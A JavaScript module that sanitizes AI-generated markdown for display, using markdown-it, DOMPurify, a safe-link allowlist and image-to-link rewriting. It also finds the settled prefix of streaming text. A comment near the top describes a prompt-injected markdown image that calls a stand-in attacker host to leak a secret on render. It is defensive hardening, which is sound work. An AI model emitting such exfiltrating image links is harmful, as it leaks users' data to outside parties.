// Model text is untrusted: markdown-it with raw HTML off, then DOMPurify on its output.
import createDOMPurify from "dompurify";
import MarkdownIt from "markdown-it";

import { stats } from "./stats.js";

const SAFE_LINK = /^(https?:|mailto:|#|\/(?!\/)|\.{0,2}\/)/i;

export function createMarkdown(window = globalThis.window) {
  const md = new MarkdownIt({ html: false, linkify: false, typographer: false, breaks: false });
  // Images become links: a model's text must not make the browser fetch a URL by itself (a
  // prompt-injected ![](https://attacker/?q=secret) would leak data on render). The user can
  // still open the image by clicking.
  md.renderer.rules.image = (tokens, idx, options, env, self) => {
    const token = tokens[idx];
    const src = token.attrGet("src") || "";
    const alt = self.renderInlineAsText(token.children || [], options, env) || src;
    const escape = md.utils.escapeHtml;
    return `<a class="dk-image" href="${escape(src)}">🖼 ${escape(alt)}</a>`;
  };
  const purify = createDOMPurify(window);
  purify.addHook("afterSanitizeAttributes", (node) => {
    if (node.nodeName === "A") {
      const href = (node.getAttribute("href") || "").trim();
      if (href && !SAFE_LINK.test(href)) node.removeAttribute("href");
      node.setAttribute("target", "_blank");
      node.setAttribute("rel", "noopener noreferrer");
    }
  });
  const options = {
    FORBID_TAGS: ["style", "form", "input", "button", "textarea", "select", "iframe", "img"],
    FORBID_ATTR: ["style"],
    ADD_ATTR: ["target"],
  };
  return {
    render(text) {
      return purify.sanitize(md.render(text ?? ""), options);
    },
  };
}

let shared = null;
export function renderMarkdown(text) {
  shared ??= createMarkdown();
  stats.markdownRenders += 1;
  stats.markdownChars += text?.length ?? 0;
  return shared.render(text);
}

// Where the settled part of a streaming text ends: after its last blank line that is not
// inside a fenced code block. Only the part after it changes as deltas arrive, so only that
// tail needs re-rendering per frame.
export function stableSplit(text) {
  let split = 0;
  let fence = null;
  let pos = 0;
  let prevBlank = false;
  while (pos < text.length) {
    const nl = text.indexOf("\n", pos);
    if (nl < 0) break; // the last line is still being written
    const line = text.slice(pos, nl);
    const m = /^ {0,3}(`{3,}|~{3,})/.exec(line);
    if (fence === null && m) {
      fence = m[1];
    } else if (fence !== null && m && m[1][0] === fence[0] && m[1].length >= fence.length && line.trim() === m[1]) {
      fence = null;
    }
    const blank = line.trim() === "";
    if (fence === null && blank && !prevBlank) split = nl + 1;
    prevBlank = blank;
    pos = nl + 1;
  }
  return split;
}
